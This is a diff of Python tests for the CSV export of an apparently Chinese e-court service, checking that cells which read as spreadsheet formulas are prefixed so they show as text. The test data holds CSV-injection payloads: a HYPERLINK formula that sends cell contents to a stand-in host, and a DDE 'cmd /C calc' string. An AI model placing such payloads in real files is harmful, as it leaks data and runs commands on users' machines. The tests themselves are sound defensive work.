@@ -20,7 +20,14 @@ from sqlalchemy.orm import ORMExecuteState
 from ecourt.contracts import OPENAPI
 from services.matters import api as matters_api
 from services.matters import applications, views
-from services.matters.tests.conftest import APPLY, OTHER_COURT, Harness
+from services.matters.tests.conftest import (
+    APPLY,
+    COURT,
+    COURT_NAME,
+    OTHER_COURT,
+    Harness,
+    case_number,
+)
 
 
 def _applied(h: Harness, count: int, case: dict[str, Any] | None = None) -> list[str]:
@@ -159,3 +166,48 @@ def test_the_contract_gives_the_export_the_list_s_filters_and_no_page() -> None:
     assert set(export["responses"]["200"]["content"]) == {"text/csv"}
     assert set(export["responses"]["422"]["content"]) == {"application/problem+json"}
     assert set(listing["responses"]["200"]["content"]) == {"application/json"}
+
+
+#: what a spreadsheet program (Excel, WPS, LibreOffice) takes for the start of a formula
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_name_or_a_department_that_reads_as_a_formula_is_exported_as_text(
+        harness: Harness) -> None:
+    """A party's name (the row's title) and the case's department are what people typed;
+    written as is, ``=HYPERLINK(...)`` or ``@SUM(...)`` ran as a formula in the clerk's
+    spreadsheet (CSV injection). Each such cell now starts with ``'`` (OWASP), which the
+    spreadsheet shows as text; the JSON list keeps what was typed."""
+    h = harness
+    name = '=HYPERLINK("http://x.example/?"&A1,"点击")'
+    party = h.book.person(name)
+    specialist = h.token("specialist")
+    for start in ("@", "+", "-"):
+        resp = h.client.post("/cases", headers=specialist, json={
+            "case_number": case_number(COURT), "court": COURT, "court_name": COURT_NAME,
+            "cause": "买卖合同纠纷", "department": f"{start}SUM(1+1)*cmd|' /C calc'!A0",
+            "judge_account_id": h.ids["judge"], "clerk_account_id": h.ids["clerk"],
+            "parties": [{"name": name, "role": "plaintiff", "account_id": party},
+                        {"name": "-黄添强", "role": "defendant", "account_id": None}]})
+        assert resp.status_code == 201, resp.get_json()
+        applied = h.client.post(f"/cases/{resp.get_json()['id']}/applications",
+                                headers=h.token("party", court=None, sub=party), json=APPLY)
+        assert applied.status_code == 201, applied.get_json()
+    rows = _export(h, specialist)
+    assert {r[1] for r in rows} == {f"'{name}/生效证明"}
+    assert sorted(r[5] for r in rows) == sorted(f"'{s}SUM(1+1)*cmd|' /C calc'!A0"
+                                                for s in ("@", "+", "-"))
+    assert {r[4] for r in rows} == {f"原告:{name};被告:-黄添强"}  # starts with 原告: text
+    assert [r[0] for r in rows] == ["1", "2", "3"]  # 序号 is a number, left alone
+    listed = _listed(h, specialist)
+    assert {x["title"] for x in listed} == {f"{name}/生效证明"}
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_every_text_cell_starting_a_formula_is_prefixed_and_no_other(start: str) -> None:
+    row = {key: f"{start}1+1" for _, key in views.CSV_COLUMNS if key}
+    plain = {key: f"(2021)粤01民初8号{start}" for _, key in views.CSV_COLUMNS if key}
+    text = "".join(views.todo_csv([row, plain])).lstrip("\ufeff")
+    written = list(csv.reader(io.StringIO(text, newline="")))
+    assert written[1] == ["1"] + [f"'{start}1+1"] * (len(views.CSV_COLUMNS) - 1)
+    assert written[2] == ["2"] + [f"(2021)粤01民初8号{start}"] * (len(views.CSV_COLUMNS) - 1)
